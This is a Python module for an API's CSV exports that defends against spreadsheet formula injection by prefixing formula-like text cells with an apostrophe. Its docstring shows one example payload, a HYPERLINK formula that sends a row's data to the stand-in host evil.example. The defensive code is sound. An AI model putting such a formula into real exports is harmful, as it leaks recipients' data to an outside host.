"""CSV files the API produces, safe to open in a spreadsheet: the one way to write them.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or line
feed, which some spreadsheets skip before reading a formula) is run as a formula by Excel,
LibreOffice and Google Sheets: a lead named ``=HYPERLINK("https://evil.example?"&A2, "Open")``
would leak the row, or worse, on the buyer's machine. Such text cells are written with a
leading apostrophe, which spreadsheets show as plain text (the OWASP recommendation).
Numbers stay numbers, and text that is only a number (``-5``, ``+14155550123``) is left
alone: it cannot call anything.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralise_cell(value):
    """The value as a spreadsheet should see it: formula-like text gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_csv(stream, columns: Sequence[str], rows: Iterable[Mapping | Sequence]) -> int:
    """Write a header and ``rows`` (dicts keyed by column, or sequences in column order) to ``stream``.

    Every cell, the header included, goes through ``neutralise_cell``. Returns the number of rows.
    """
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow([neutralise_cell(column) for column in columns])
    count = 0
    for row in rows:
        values = [row.get(column) for column in columns] if isinstance(row, Mapping) else list(row)
        if len(values) != len(columns):
            raise ValueError(f"row {count + 1} has {len(values)} cells for {len(columns)} columns")
        writer.writerow([neutralise_cell(value) for value in values])
        count += 1
    return count


def csv_text(columns: Sequence[str], rows: Iterable[Mapping | Sequence]) -> str:
    """The whole CSV as a string (small exports; stream large ones with ``write_csv``)."""
    buffer = io.StringIO()
    write_csv(buffer, columns, rows)
    return buffer.getvalue()
